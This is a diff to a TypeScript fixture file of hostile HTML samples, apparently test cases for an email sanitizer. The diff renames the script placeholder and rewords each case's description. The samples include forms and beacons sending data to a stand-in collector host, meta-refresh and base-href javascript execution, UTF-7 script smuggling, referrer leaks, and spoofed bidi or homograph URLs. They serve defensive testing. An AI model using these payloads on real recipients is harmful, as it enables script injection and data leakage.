@@ -1,7 +1,7 @@
-import { COLLECTOR, RUN, mails } from './model.ts';
+import { COLLECTOR, PAYLOAD, createEmails } from './model.ts';
 
-/** Forms, and fields that a browser might fill in by itself. */
-export const forms = mails([
+/** Forms, and fields that browsers may autofill. */
+export const forms = createEmails([
   [
     'form-post',
     'a form that posts',
@@ -44,11 +44,7 @@ export const forms = mails([
     'forms within forms',
     `<form id=a action="${COLLECTOR}/1"><div><form action="${COLLECTOR}/2"><button form=a>x</button></form></div></form>`,
   ],
-  [
-    'form-isindex',
-    'what is left of isindex',
-    `<isindex action="${COLLECTOR}/i" prompt=x><keygen autofocus onfocus=${RUN}>`,
-  ],
+  ['form-isindex', 'legacy isindex', `<isindex action="${COLLECTOR}/i" prompt=x><keygen autofocus onfocus=${PAYLOAD}>`],
   [
     'form-label',
     'a label that presses a button',
@@ -66,14 +62,14 @@ export const forms = mails([
   ],
 ]);
 
-/** What acts on the page by itself: meta, base. */
-export const pragmas = mails([
-  ['refresh', 'goes elsewhere at once', `<meta http-equiv=refresh content="0;url=${COLLECTOR}/refresh">`],
-  ['refresh-js', 'goes to a script', `<meta http-equiv="Refresh" content="0; url=javascript:${RUN}">`],
+/** Elements that affect the whole page: meta, base. */
+export const pragmas = createEmails([
+  ['refresh', 'redirects immediately', `<meta http-equiv=refresh content="0;url=${COLLECTOR}/refresh">`],
+  ['refresh-js', 'redirects to a script', `<meta http-equiv="Refresh" content="0; url=javascript:${PAYLOAD}">`],
   [
     'refresh-data',
-    'goes to a page of its own',
-    `<meta http-equiv=refresh content="0;data:text/html,<script>${RUN}</script>">`,
+    'redirects to a data page',
+    `<meta http-equiv=refresh content="0;data:text/html,<script>${PAYLOAD}</script>">`,
   ],
   [
     'refresh-body',
@@ -96,7 +92,7 @@ export const pragmas = mails([
     'a policy that reports',
     `<meta http-equiv=content-security-policy content="img-src 'none'; report-uri ${COLLECTOR}/report"><img src=${COLLECTOR}/reported.png>`,
   ],
-  ['meta-charset', 'another encoding', `<meta charset=utf-7>+ADw-script+AD4-${RUN}+ADw-/script+AD4-`],
+  ['meta-charset', 'another encoding', `<meta charset=utf-7>+ADw-script+AD4-${PAYLOAD}+ADw-/script+AD4-`],
   [
     'meta-charset-type',
     'another encoding, the old way',
@@ -105,17 +101,17 @@ export const pragmas = mails([
   ['meta-cookie', 'a cookie', '<meta http-equiv=Set-Cookie content="a=b; domain=127.0.0.1">'],
   [
     'meta-dns',
-    'names of links looked up beforehand',
+    'DNS prefetching of links',
     '<meta http-equiv=x-dns-prefetch-control content=on><a href="http://u1.collector.invalid/">x</a>',
   ],
   [
     'meta-referrer',
-    'tells all of the address',
+    'sends the full URL as referrer',
     `<meta name=referrer content=unsafe-url><img src="${COLLECTOR}/referrer.png">`,
   ],
   [
     'meta-referrer-attribute',
-    'tells all of the address, image by image',
+    'sends the full URL as referrer per element',
     `<img referrerpolicy=unsafe-url src="${COLLECTOR}/referrer2.png"><link rel=stylesheet referrerpolicy=unsafe-url href="${COLLECTOR}/referrer.css">`,
   ],
   [
@@ -144,12 +140,12 @@ export const pragmas = mails([
     'all links out of the frame',
     `<base target=_top><a href="${COLLECTOR}/t">x</a><form><button>x</button></form>`,
   ],
-  ['base-data', 'a base that runs', `<base href="javascript:/"><a href=".">x</a><a href="/${RUN}">y</a>`],
+  ['base-data', 'a base that runs', `<base href="javascript:/"><a href=".">x</a><a href="/${PAYLOAD}">y</a>`],
   ['base-twice', 'two bases, one in the body', `<head><base></head><body><base href="${COLLECTOR}/b/"><img src=a.png>`],
 ]);
 
-/** Links between pages: to be loaded, foretold or followed. */
-export const links = mails([
+/** Links to other resources: loaded, prefetched or followed. */
+export const links = createEmails([
   ...[
     'preload',
     'prefetch',
@@ -195,10 +191,10 @@ export const links = mails([
     `<svg><link rel=stylesheet href="${COLLECTOR}/svg.css" /><style>@import "${COLLECTOR}/svg2.css"</style></svg>`,
   ],
   ['link-body', 'in the body', `<p>x<link rel=prefetch href="${COLLECTOR}/b"></p>`],
-  ['a-ping', 'tells of a click', `<a href="https://collector.invalid/" ping="${COLLECTOR}/ping">x</a>`],
+  ['a-ping', 'reports a click', `<a href="https://collector.invalid/" ping="${COLLECTOR}/ping">x</a>`],
   [
     'a-attribution',
-    'tells of a sight and a click',
+    'reports a view and a click',
     `<a href="#x" attributionsrc="${COLLECTOR}/attribution">x</a><img attributionsrc="${COLLECTOR}/attribution2" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`,
   ],
   [
@@ -241,10 +237,10 @@ export const links = mails([
     'names in the page',
     '<a href="#__proto__">x</a><a href="#%E0%A4%A">y</a><a name="%E0%A4%A">z</a><a href="#:~:text=x">w</a>',
   ],
-  ['a-long', 'an address without an end', `<a href="https://collector.invalid/${'a'.repeat(200_000)}">x</a>`],
+  ['a-long', 'a very long URL', `<a href="https://collector.invalid/${'a'.repeat(200_000)}">x</a>`],
   [
     'a-bidi',
-    'an address that reads otherwise',
+    'a misleading URL',
     '<a href="https://collector.invalid/\u202Egpj.exe">x</a><a href="https://\u0440\u0430ypal.invalid/\u200B">y</a>',
   ],
 ]);
